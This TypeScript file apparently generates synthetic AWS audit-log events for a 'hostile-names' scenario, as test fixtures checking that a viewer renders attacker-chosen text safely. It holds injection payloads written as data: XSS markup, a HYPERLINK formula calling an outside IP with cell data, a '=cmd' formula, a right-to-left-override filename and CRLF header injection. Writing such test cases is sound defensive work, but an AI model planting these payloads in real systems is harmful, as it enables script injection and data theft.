import { failed } from '../failures.ts';
import { userCaller } from '../identity.ts';
import { iamUser } from '../iam-users.ts';
import { ec2Write, items } from '../services/ec2.ts';
import { iamWrite } from '../services/iam.ts';
import { objectCall } from '../services/s3.ts';
import { assumeRole } from '../services/sts.ts';
import { roleCaller } from '../identity.ts';
import { read } from '../services/read.ts';
import { idsOf, storyScript, workday, type TellStory } from './story.ts';

const MARKUP = '<img src=x onerror=alert(document.domain)>';
const FORMULA = '=HYPERLINK("http://203.0.113.66/"&A1,"quarterly report")';
const TURNED = 'invoice-\u202efdp.exe';
/** IAM allows letters, digits and `_+=,.@-` in names, so this one is a real user's name. */
const LEGAL_FORMULA_NAME = '=1+1@quillhaven';

/** Text chosen by a caller ends up in the evidence: markup, formulas, reversed writing. */
export const hostileNames: TellStory = (world) => {
  const script = storyScript(
    world,
    'hostile-names',
    'payments-prod',
    'home',
    workday(world, 0.9, 5, 8),
  );
  const { account, random } = script;
  const user = iamUser(world, LEGAL_FORMULA_NAME, 'payments-prod');
  const client = { address: '203.0.113.66', agent: `${FORMULA} <script>alert(1)</script>` };
  const caller = userCaller(user, client);
  const [bucket = ''] = world.assets(account, script.region).buckets;
  const { role, name } = { role: 'statements-render', name: '=cmd,calc@A1' };
  const taken = roleCaller(world, assumeRole(script, caller, { account, role, name }), client);
  const records = [
    script.wait(2, 9).call(taken, read('sts', 'GetCallerIdentity')),
    script.wait(2, 9).call(
      caller,
      failed(iamWrite('CreateUser', { userName: MARKUP }), {
        code: 'ValidationException',
        message: `1 validation error detected: Value '${MARKUP}' at 'userName' failed to satisfy constraint: Member must satisfy regular expression pattern: [\\w+=,.@-]+`,
      }),
    ),
    script.wait(2, 9).call(caller, (scope) =>
      ec2Write(scope, 'CreateTags', {
        resourcesSet: items([{ resourceId: world.assets(account, script.region).instances[0] }]),
        tagSet: items([
          { key: 'Name', value: MARKUP },
          { key: FORMULA, value: TURNED },
        ]),
      }),
    ),
    ...[FORMULA, TURNED, `../../${random.hex(4)}/\u0007\r\nSet-Cookie: a=b`].map((key) =>
      script.wait(2, 9).call(caller, (scope) => objectCall(scope, 'PutObject', bucket, key)),
    ),
  ];
  return [
    {
      planned: script.planned,
      story: {
        id: 'hostile-names',
        title: 'Names that are written to hurt the reader',
        sentence: `An IAM user called ${LEGAL_FORMULA_NAME} writes markup, spreadsheet formulas and reversed text into tags, object keys, a session name and its user agent. They are evidence and must be shown as text.`,
        control: null,
        events: idsOf(records),
        query: 'ip = 203.0.113.66 NOT what = AssumeRole',
      },
    },
  ];
};
